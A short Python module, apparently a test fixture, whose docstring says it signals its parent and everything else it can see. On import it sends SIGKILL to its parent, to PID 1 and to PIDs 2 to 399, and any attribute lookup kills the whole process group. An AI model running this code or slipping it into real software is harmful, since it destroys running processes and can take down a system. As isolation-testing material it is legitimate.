"""Signals its parent and everything else that it can see, over and over."""

import os
import signal

for process in [os.getppid(), 1, *range(2, 400)]:
    if process != os.getpid():
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass


def __getattr__(name):
    def kill(*args, **keywords):
        os.killpg(0, signal.SIGKILL)

    return kill
